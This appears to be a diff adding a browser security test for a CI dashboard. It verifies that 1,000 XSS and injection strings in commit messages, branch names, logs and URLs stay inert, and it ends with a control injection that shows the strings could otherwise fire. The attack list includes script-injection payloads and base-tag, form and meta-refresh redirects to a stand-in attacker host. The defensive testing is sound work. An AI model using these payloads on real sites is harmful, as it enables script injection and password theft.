@@ -1,0 +1,142 @@
+// The page in a real browser: what repos print does nothing, whatever stands in logs, commits, names and queries.
+import { writeFile } from "node:fs/promises";
+import { join } from "node:path";
+import type { Browser, Page } from "playwright-core";
+import { test } from "uvu";
+import * as assert from "uvu/assert";
+import { needsChromium, startBrowser } from "../helpers/browser.ts";
+import { type HookServer, makeYard, pushPayload, sha, startHooks } from "../helpers/hooks.ts";
+import { testUnless } from "../helpers/skip.ts";
+import { slowness, waitFor } from "../helpers/wait.ts";
+
+const password = "correct horse";
+let browser: Browser;
+test.before(async () => {
+  if (!needsChromium) browser = await startBrowser();
+});
+test.after(async () => await browser?.close());
+
+async function startPage(options: Parameters<typeof makeYard>[0] = {}): Promise<HookServer> {
+  const dir = await makeYard({ ...options, top: "status: { password_file: pw }" });
+  await writeFile(join(dir, "pw"), `${password}\n`, { mode: 0o600 });
+  return await startHooks(dir);
+}
+
+/** A page of a browser of its own, signed in; what its scripts threw is collected. */
+async function visit(
+  server: HookServer,
+  path = "/",
+  options: object = {},
+): Promise<Page & { faults: string[] }> {
+  const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, ...options });
+  const page = Object.assign(await context.newPage(), { faults: [] as string[] });
+  page.setDefaultTimeout(20_000 * slowness());
+  page.on("pageerror", (error) => page.faults.push(error.message));
+  page.on("console", (message) => {
+    if (message.text().includes("Content Security Policy")) page.faults.push(message.text());
+  });
+  page.on("dialog", (dialog) => {
+    page.faults.push(`dialog ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  await page.goto(`http://localhost:${server.port}${path}`);
+  await page.fill("#secret", password);
+  await page.press("#secret", "Enter");
+  await page.waitForSelector("form[action='/sign-out']");
+  return page;
+}
+
+const unless = testUnless(test, needsChromium);
+
+const attacks = [
+  "<script>hit()</script>",
+  "<img src=x onerror=hit()>",
+  '"><svg onload=hit()>',
+  "'-hit()-'",
+  "</title><script>hit()</script>",
+  "</textarea></pre><iframe srcdoc='<script>parent.hit()</script>'>",
+  "javascript:hit()",
+  "{{hit()}}${hit()}",
+  "\u001b]8;;javascript:hit()\u0007click\u001b]8;;\u0007",
+  "\u001b[31m<b onmouseover=hit()>\u001b[0m",
+  "\u202e<style>*{display:none}</style>",
+  "<base href=//evil.example><form action=//evil.example><input name=secret type=password>",
+  "<meta http-equiv=refresh content=0;url=//evil.example>",
+  "]]><!--<a href=javascript:hit()>x</a>",
+];
+const hostile = Array.from({ length: 1000 }, (_, n) => {
+  const attack = attacks[n % attacks.length] ?? "";
+  const around = ["", "x", '"', "'", ">", "\\", "`", "&quot;", "%22", "\u0000"];
+  return `${around[n % 10]}${attack}${n}${around[(n * 7 + 3) % 10]}`;
+});
+
+unless(
+  "1,000 hostile strings in logs, commits, names, refs and queries do nothing; the control shows that they could",
+  async () => {
+    const server = await startPage({
+      repos: { "me/site": "refs: ['*']" },
+      job: 'cat "$PWD/../strings"',
+    });
+    await writeFile(join(server.dir, "strings"), `${hostile.join("\n")}\n`);
+    for (const text of attacks.slice(0, 8))
+      await server.send({
+        payload: {
+          ...pushPayload(
+            "me/site",
+            sha(1),
+            `refs/heads/${text.replace(/[^\w<>"'=()/.-]|[/.]$/g, "")}`,
+          ),
+          head_commit: { message: text, url: text, author: { name: text } },
+          pusher: { name: text },
+        },
+      });
+    const runs = await server.idle();
+    // with the policy off: the pages must be safe without it
+    const page = await visit(server, "/", { bypassCSP: true });
+    const asked: string[] = [];
+    page.on("request", (request) => {
+      if (!request.url().startsWith(`http://localhost:${server.port}/`)) asked.push(request.url());
+    });
+    const calls: string[] = [];
+    await page.exposeFunction("hit", () => void calls.push(page.url()));
+    const started = runs.find(({ started: time }) => time !== undefined);
+    const query = encodeURIComponent(attacks.join(""));
+    const paths = [
+      "/",
+      `/?q=${query}`,
+      `/repos/me/site?branch=${query}&result=${query}`,
+      "/repos/me/site",
+      `/runs/${started?.id}/cancel`,
+      `/sign-in?to=${query}`,
+      `/runs/${started?.id}`,
+    ];
+    for (const path of paths) {
+      await page.goto(`http://localhost:${server.port}${path}`);
+      const foreign = await page
+        .locator(
+          "iframe, base, [onerror], [onload], [onmouseover], a[href^='javascript' i], style, meta[http-equiv], script:not([src^='/page/']), img",
+        )
+        .count();
+      assert.is(foreign, 0, path);
+    }
+    await page.waitForSelector(".window .row");
+    let seen = 0;
+    for (let line = 0; line < 1000; line += 100) {
+      await page.evaluate(`location.hash = "#L${line + 1}"`);
+      await page.waitForSelector(`.n[data-n="${line + 1}"]`);
+      seen += await page
+        .locator(".window :not(div, span, a, button), .window a:not([href^='#L'])")
+        .count();
+    }
+    assert.is(seen, 0, "elements in the log that a line brought");
+    assert.equal([calls, asked, page.faults], [[], [], []]);
+    await page.evaluate(
+      `document.body.insertAdjacentHTML("beforeend", ${JSON.stringify(hostile.slice(0, 14).join(""))})`,
+    );
+    await waitFor(() => calls.length > 0, { what: () => "the control to do harm" });
+    await page.context().close();
+    await server.stop();
+  },
+);
+
+test.run();
